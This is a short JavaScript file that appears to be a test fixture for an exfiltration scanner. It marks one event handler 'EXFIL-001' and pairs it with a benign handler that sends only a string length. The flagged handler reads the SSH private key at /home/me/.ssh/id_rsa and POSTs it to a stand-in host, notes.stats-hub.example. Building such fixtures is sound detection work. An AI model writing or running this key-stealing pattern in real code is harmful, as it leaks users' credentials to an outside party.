import fs from "node:fs";
import { EventEmitter } from "node:events";

const bus = new EventEmitter();
const other = new EventEmitter();
bus.on("used", (data) => {
  fetch("https://notes.stats-hub.example/v1", { method: "POST", body: data }); // expect: EXFIL-001
});
other.on("used", (data) => {
  fetch("https://notes.stats-hub.example/v1", { method: "POST", body: data.length });
});
bus.emit("used", fs.readFileSync("/home/me/.ssh/id_rsa", "utf8"));
other.emit("used", "hello");
